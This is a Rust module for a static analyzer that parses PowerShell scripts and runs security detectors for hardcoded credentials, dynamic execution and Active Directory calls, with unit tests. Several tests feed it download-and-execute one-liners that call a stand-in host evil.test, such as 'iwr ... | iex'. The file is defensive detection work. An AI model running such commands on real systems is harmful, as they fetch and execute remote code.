//! AST-based analysis of PowerShell scripts.
//!
//! The source is parsed once into a [`SyntaxTree`]; every enabled detector
//! then walks the same read-only tree. A detector that panics is isolated:
//! the panic is logged and that detector contributes no findings, while the
//! others run as usual.

pub mod config;
pub mod detectors;
pub mod lexer;
pub mod parser;
pub mod syntax;

pub use config::AnalyzerSettings;
pub use detectors::{Detector, DetectorSet, RuleContext};
pub use parser::parse_script;
pub use syntax::{Node, NodeKind, SyntaxTree};

use crate::error::Result;
use crate::rules::patterns::Whitelist;
use crate::types::Finding;
use std::panic::{self, AssertUnwindSafe};
use std::time::Instant;
use tracing::{debug, error};

/// Runs the enabled detectors over a syntax tree and aggregates findings.
pub struct AstAnalyzer {
    settings: AnalyzerSettings,
    detectors: DetectorSet,
    whitelist: Whitelist,
}

impl AstAnalyzer {
    /// Analyzer with default settings and the built-in detectors.
    pub fn new() -> Self {
        Self {
            settings: AnalyzerSettings::default(),
            detectors: DetectorSet::new(),
            whitelist: Whitelist::builtin(),
        }
    }

    /// Analyzer with the built-in detectors and the given settings.
    pub fn with_settings(settings: AnalyzerSettings) -> Result<Self> {
        Self::with_detectors(settings, DetectorSet::new())
    }

    /// Analyzer with a custom detector set.
    ///
    /// Custom detectors always run; the enabled-rule set only filters the
    /// built-in rule ids.
    pub fn with_detectors(settings: AnalyzerSettings, detectors: DetectorSet) -> Result<Self> {
        settings.validate()?;
        let whitelist = Whitelist::with_extra(&settings.whitelist_patterns)?;
        Ok(Self {
            settings,
            detectors,
            whitelist,
        })
    }

    pub fn settings(&self) -> &AnalyzerSettings {
        &self.settings
    }

    pub fn whitelist(&self) -> &Whitelist {
        &self.whitelist
    }

    /// Parse and analyze a script.
    pub fn analyze_source(&self, source: &str) -> Result<Vec<Finding>> {
        let tree = parse_script(source)?;
        Ok(self.analyze_tree(&tree))
    }

    /// Run every enabled detector in order and return the filtered findings.
    pub fn analyze_tree(&self, tree: &SyntaxTree) -> Vec<Finding> {
        let ctx = RuleContext {
            settings: &self.settings,
            whitelist: &self.whitelist,
        };
        let mut findings = Vec::new();
        for detector in self.detectors.all() {
            let rule_id = detector.rule_id();
            if !self.is_enabled(rule_id) {
                continue;
            }
            let started = Instant::now();
            let result = panic::catch_unwind(AssertUnwindSafe(|| detector.analyze(tree, &ctx)));
            match result {
                Ok(rule_findings) => {
                    debug!(
                        rule = rule_id,
                        findings = rule_findings.len(),
                        elapsed_us = started.elapsed().as_micros() as u64,
                        "rule finished"
                    );
                    findings.extend(rule_findings);
                }
                Err(payload) => {
                    error!(rule = rule_id, reason = %panic_message(&*payload), "rule failed; skipping its findings");
                }
            }
        }
        self.apply_settings(findings)
    }

    fn is_enabled(&self, rule_id: &str) -> bool {
        let builtin = crate::rules::find_rule(rule_id).is_some();
        !builtin || self.settings.is_enabled(rule_id)
    }

    fn apply_settings(&self, findings: Vec<Finding>) -> Vec<Finding> {
        findings
            .into_iter()
            .map(|mut finding| {
                finding.severity = self
                    .settings
                    .effective_severity(&finding.rule_id, finding.severity);
                finding
            })
            .filter(|finding| finding.severity >= self.settings.min_severity)
            .collect()
    }
}

impl Default for AstAnalyzer {
    fn default() -> Self {
        Self::new()
    }
}

fn panic_message(payload: &(dyn std::any::Any + Send)) -> String {
    if let Some(message) = payload.downcast_ref::<&str>() {
        (*message).to_string()
    } else if let Some(message) = payload.downcast_ref::<String>() {
        message.clone()
    } else {
        "unknown panic".to_string()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::types::{FindingCategory, Severity};

    struct PanickingDetector;

    impl Detector for PanickingDetector {
        fn rule_id(&self) -> &'static str {
            "TEST-PANIC"
        }

        fn title(&self) -> &'static str {
            "Always panics"
        }

        fn category(&self) -> FindingCategory {
            FindingCategory::CodeExecution
        }

        fn analyze(&self, _tree: &SyntaxTree, _ctx: &RuleContext<'_>) -> Vec<Finding> {
            panic!("boom")
        }
    }

    const SCRIPT: &str = "param([string]$Password)\n$apiKey = 'abcd1234efgh5678'\nInvoke-Expression $cmd\nGet-ADUser jdoe";

    #[test]
    fn test_all_rules_run_in_order() {
        let findings = AstAnalyzer::new().analyze_source(SCRIPT).unwrap();
        let ids: Vec<_> = findings.iter().map(|f| f.rule_id.as_str()).collect();
        assert_eq!(ids, vec!["CRED-001", "CRED-002", "EXEC-001", "AD-001"]);
    }

    #[test]
    fn test_panicking_detector_is_isolated() {
        let detectors = DetectorSet::empty()
            .with(PanickingDetector)
            .with(detectors::HardcodedCredentialsDetector::new());
        let analyzer = AstAnalyzer::with_detectors(AnalyzerSettings::default(), detectors).unwrap();
        let findings = analyzer.analyze_source(SCRIPT).unwrap();
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].rule_id, "CRED-001");
    }

    #[test]
    fn test_min_severity_filter() {
        let settings = AnalyzerSettings::default().with_min_severity(Severity::Error);
        let findings = AstAnalyzer::with_settings(settings).unwrap().analyze_source(SCRIPT).unwrap();
        assert_eq!(findings.len(), 3);
        assert!(findings.iter().all(|f| f.severity == Severity::Error));
    }

    #[test]
    fn test_severity_override_applies_before_filter() {
        let settings = AnalyzerSettings::default()
            .with_min_severity(Severity::Warning)
            .with_severity_override("AD-001", Severity::Warning)
            .unwrap();
        let findings = AstAnalyzer::with_settings(settings).unwrap().analyze_source(SCRIPT).unwrap();
        let ad = findings.iter().find(|f| f.rule_id == "AD-001").unwrap();
        assert_eq!(ad.severity, Severity::Warning);
    }

    #[test]
    fn test_disabled_rules_do_not_run() {
        let settings = AnalyzerSettings::default()
            .with_rules(&[], &["CRED-001".into(), "AD-001".into()])
            .unwrap();
        let findings = AstAnalyzer::with_settings(settings).unwrap().analyze_source(SCRIPT).unwrap();
        let ids: Vec<_> = findings.iter().map(|f| f.rule_id.as_str()).collect();
        assert_eq!(ids, vec!["CRED-002", "EXEC-001"]);
    }

    #[test]
    fn test_extra_whitelist_suppresses() {
        let settings = AnalyzerSettings::default().with_whitelist_patterns(vec!["abcd1234".into()]);
        let analyzer = AstAnalyzer::with_settings(settings).unwrap();
        let findings = analyzer.analyze_source(SCRIPT).unwrap();
        assert!(findings.iter().all(|f| f.rule_id != "CRED-001"));
    }

    #[test]
    fn test_whitelist_does_not_hide_dynamic_execution() {
        let analyzer = AstAnalyzer::new();
        let exec = |source: &str| -> Vec<Finding> {
            analyzer
                .analyze_source(source)
                .unwrap()
                .into_iter()
                .filter(|f| f.rule_id == "EXEC-001")
                .collect()
        };

        let findings = exec("Invoke-Expression (Invoke-WebRequest 'https://evil.test/changeme.ps1')");
        assert!(!findings.is_empty());

        let findings = exec("Invoke-Expression \"Get-ADGroup S-1-5-21-1234567890-1234567890-1234567890-1234\"");
        assert_eq!(findings.len(), 1);

        let findings = exec("iwr https://evil.test/placeholder.ps1 | iex");
        assert!(findings
            .iter()
            .any(|f| f.metadata.get("source").is_some_and(|s| s == "network")));
    }

    #[test]
    fn test_whitelist_does_not_hide_secret_parameters() {
        let findings = AstAnalyzer::new()
            .analyze_source("param([string]$TemplatePassword = 'x')")
            .unwrap();
        let cred: Vec<_> = findings.iter().filter(|f| f.rule_id == "CRED-002").collect();
        assert_eq!(cred.len(), 1);
        assert_eq!(cred[0].severity, Severity::Error);
    }

    #[test]
    fn test_invalid_whitelist_pattern_is_an_error() {
        let settings = AnalyzerSettings::default().with_whitelist_patterns(vec!["[".into()]);
        assert!(AstAnalyzer::with_settings(settings).is_err());
    }

    #[test]
    fn test_parse_errors_surface() {
        assert!(AstAnalyzer::new().analyze_source("function f {").is_err());
    }
}
